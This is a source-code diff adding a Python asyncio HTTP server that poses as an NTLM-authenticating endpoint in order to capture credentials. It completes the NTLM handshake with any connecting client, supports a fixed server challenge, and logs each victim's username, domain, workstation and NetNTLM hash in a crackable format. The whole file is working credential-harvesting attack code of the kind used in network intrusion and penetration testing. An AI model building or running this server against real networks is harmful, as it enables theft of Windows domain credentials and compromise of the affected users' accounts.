@@ -0,0 +1,235 @@
+import os
+import asyncio
+import binascii
+import logging
+from typing import Callable, Dict, Optional, Tuple
+
+from src.utils.ntlm import (NTLM_AUTHENTICATE, NTLM_NEGOTIATE, build_challenge_message,
+                            format_hash, hash_type, message_type, parse_authenticate_message)
+from src.utils.spnego import NEG_STATE_ACCEPT_INCOMPLETE, is_spnego, neg_token_resp, unwrap_ntlmssp
+
+_AUTHORIZATION = b'authorization:'
+_CONNECTION = b'connection:'
+_CONTENT_LENGTH = b'content-length:'
+
+# Request bodies are discarded, never buffered; larger ones are refused outright
+MAX_CONTENT_LENGTH = 16 * 1024 * 1024
+_DISCARD_CHUNK = 65536
+
+class HTTPRequestHead:
+    """Request line and the headers the NTLM exchange needs, parsed from one header block"""
+
+    __slots__ = ('method', 'version', 'authorization', 'content_length', 'keep_alive')
+
+    def __init__(self, method: bytes, version: bytes, authorization: Optional[memoryview],
+                 content_length: int, keep_alive: bool):
+        self.method = method
+        self.version = version
+        self.authorization = authorization
+        self.content_length = content_length
+        self.keep_alive = keep_alive
+
+def parse_request_head(block: bytes) -> HTTPRequestHead:
+    """
+    Parse an HTTP/1.x header block (request line up to the blank line).
+
+    Header values are returned as memoryviews into block so the Authorization
+    token can be base64-decoded without copying the header first. Raises
+    ValueError for a malformed request line or a Content-Length that is not
+    a number up to MAX_CONTENT_LENGTH.
+    """
+    view = memoryview(block)
+    line_end = block.find(b'\r\n')
+    request_line = block[:line_end].split(b' ')
+    if len(request_line) != 3:
+        raise ValueError("Malformed HTTP request line")
+    method, _, version = request_line
+    keep_alive = version == b'HTTP/1.1'
+    authorization = None
+    content_length = 0
+
+    position = line_end + 2
+    while position < len(block):
+        end = block.find(b'\r\n', position)
+        if end == -1:
+            end = len(block)
+        if end == position:
+            break
+        colon = block.find(b':', position, end)
+        if colon != -1:
+            name = block[position:colon + 1].lower()
+            value_start = colon + 1
+            while value_start < end and block[value_start] in b' \t':
+                value_start += 1
+            if name == _AUTHORIZATION:
+                authorization = view[value_start:end]
+            elif name == _CONTENT_LENGTH:
+                value = block[value_start:end].strip()
+                if not value.isdigit() or int(value) > MAX_CONTENT_LENGTH:
+                    raise ValueError(f"Unsupported Content-Length {value[:20]!r}")
+                content_length = int(value)
+            elif name == _CONNECTION:
+                token = block[value_start:end].strip().lower()
+                if token == b'close':
+                    keep_alive = False
+                elif token == b'keep-alive':
+                    keep_alive = True
+        position = end + 2
+    return HTTPRequestHead(method, version, authorization, content_length, keep_alive)
+
+def decode_ntlm_token(authorization: Optional[memoryview]) -> Optional[bytes]:
+    """Decode the token of an 'NTLM <base64>' or 'Negotiate <base64>' Authorization value"""
+    if authorization is None:
+        return None
+    space = bytes(authorization[:10]).find(b' ')
+    if space == -1:
+        return None
+    scheme = bytes(authorization[:space]).lower()
+    if scheme not in (b'ntlm', b'negotiate'):
+        return None
+    try:
+        return binascii.a2b_base64(authorization[space + 1:])
+    except binascii.Error:
+        return None
+
+def http_response(status: bytes, keep_alive: bool, authenticate: bytes = b'WWW-Authenticate: NTLM\r\n') -> bytes:
+    """Bodiless HTTP/1.1 response with the given WWW-Authenticate header line (b'' for none)"""
+    return (b'HTTP/1.1 ' + status + b'\r\n' +
+            authenticate +
+            b'Content-Length: 0\r\n' +
+            (b'Connection: keep-alive\r\n' if keep_alive else b'Connection: close\r\n') +
+            b'\r\n')
+
+class NTLMHTTPCaptureServer:
+    """
+    asyncio HTTP/1.1 server capturing NTLM credentials.
+
+    Each connection runs the full Negotiate -> Challenge -> Authenticate
+    exchange and stays open afterwards (keep-alive), so one client can
+    authenticate several times without reconnecting. Tokens may be raw or
+    SPNEGO-wrapped under the NTLM or Negotiate scheme; the challenge is sent
+    back in the client's scheme and wrapping. Parsed Type 3 messages are
+    passed to on_credential on the default executor, never on the loop.
+    """
+
+    def __init__(self, host: str, port: int,
+                 on_credential: Optional[Callable[[Dict], None]] = None,
+                 computer_name: str = 'SERVER', domain_name: str = 'WORKGROUP',
+                 server_challenge: bytes = None, max_header_size: int = 16384,
+                 idle_timeout: float = 30.0):
+        self.logger = logging.getLogger(__name__)
+        self.host = host
+        self.port = port
+        self.on_credential = on_credential
+        self.computer_name = computer_name
+        self.domain_name = domain_name
+        self.server_challenge = server_challenge
+        self.max_header_size = max_header_size
+        self.idle_timeout = idle_timeout
+        self.server: Optional[asyncio.AbstractServer] = None
+        self.connections = 0
+        self.handshakes = 0
+
+    async def start(self):
+        """Start listening"""
+        self.server = await asyncio.start_server(self._handle_client, self.host, self.port,
+                                                 limit=self.max_header_size)
+        self.port = self.server.sockets[0].getsockname()[1]
+        self.logger.info(f"HTTP NTLM capture server listening on {self.host}:{self.port}")
+
+    async def stop(self):
+        """Stop listening and close open connections"""
+        if self.server:
+            self.server.close()
+            await self.server.wait_closed()
+            self.server = None
+
+    async def _read_head(self, reader: asyncio.StreamReader) -> Optional[HTTPRequestHead]:
+        try:
+            block = await asyncio.wait_for(reader.readuntil(b'\r\n\r\n'), self.idle_timeout)
+        except (asyncio.IncompleteReadError, asyncio.TimeoutError, ConnectionError):
+            return None
+        except asyncio.LimitOverrunError:
+            raise ValueError("HTTP header block too large")
+        return parse_request_head(block)
+
+    async def _discard_body(self, reader: asyncio.StreamReader, size: int):
+        """Consume a request body in bounded chunks instead of buffering it"""
+        while size:
+            chunk = await asyncio.wait_for(reader.read(min(size, _DISCARD_CHUNK)), self.idle_timeout)
+            if not chunk:
+                raise asyncio.IncompleteReadError(b'', size)
+            size -= len(chunk)
+
+    async def _handle_client(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
+        client_address: Tuple[str, int] = writer.get_extra_info('peername')
+        self.connections += 1
+        server_challenge = None
+        try:
+            while True:
+                try:
+                    head = await self._read_head(reader)
+                except ValueError as e:
+                    self.logger.warning(f"Bad HTTP request from {client_address[0]}: {e}")
+                    writer.write(http_response(b'400 Bad Request', False, b''))
+                    await writer.drain()
+                    break
+                if head is None:
+                    break
+                if head.content_length:
+                    await self._discard_body(reader, head.content_length)
+
+                token = decode_ntlm_token(head.authorization)
+                ntlm = unwrap_ntlmssp(token) if token else None
+                kind = message_type(ntlm) if ntlm is not None else None
+
+                if kind == NTLM_NEGOTIATE:
+                    server_challenge = self.server_challenge or os.urandom(8)
+                    challenge = build_challenge_message(server_challenge, self.computer_name,
+                                                        self.domain_name)
+                    # Answer in the scheme and wrapping the client used
+                    scheme = bytes(head.authorization).split(b' ', 1)[0]
+                    blob = (neg_token_resp(challenge, NEG_STATE_ACCEPT_INCOMPLETE, supported_mech=True)
+                            if is_spnego(token) else challenge)
+                    writer.write(http_response(b'401 Unauthorized', True,
+                                               b'WWW-Authenticate: ' + scheme + b' ' +
+                                               binascii.b2a_base64(blob, newline=False) + b'\r\n'))
+                elif kind == NTLM_AUTHENTICATE and server_challenge:
+                    self._emit_credential(client_address, ntlm, server_challenge)
+                    server_challenge = None
+                    writer.write(http_response(b'200 OK', head.keep_alive, b''))
+                else:
+                    # No (usable) NTLM token yet: ask the client to start the exchange
+                    writer.write(http_response(b'401 Unauthorized', head.keep_alive))
+                await writer.drain()
+
+                if not head.keep_alive and kind != NTLM_NEGOTIATE:
+                    break
+        except (ConnectionError, asyncio.IncompleteReadError, asyncio.TimeoutError):
+            pass
+        except Exception as e:
+            self.logger.error(f"Error in HTTP handler for {client_address[0]}: {e}")
+        finally:
+            writer.close()
+
+    def _emit_credential(self, client_address, ntlm: memoryview, server_challenge: bytes):
+        try:
+            auth = parse_authenticate_message(ntlm)
+        except Exception as e:
+            self.logger.warning(f"Malformed NTLM Type 3 from {client_address[0]}: {e}")
+            return
+        self.handshakes += 1
+        event = {
+            'protocol': 'HTTP',
+            'source': client_address[0],
+            'username': auth['username'],
+            'domain': auth['domain'],
+            'workstation': auth['workstation'],
+            'hash_type': hash_type(auth),
+            'server_challenge': server_challenge.hex(),
+            'ntlm_hash': format_hash(auth, server_challenge),
+        }
+        self.logger.info(f"Captured HTTP NTLM auth from {client_address[0]}: "
+                         f"{event['domain']}\\{event['username']} ({event['hash_type']})")
+        if self.on_credential:
+            asyncio.get_running_loop().run_in_executor(None, self.on_credential, event)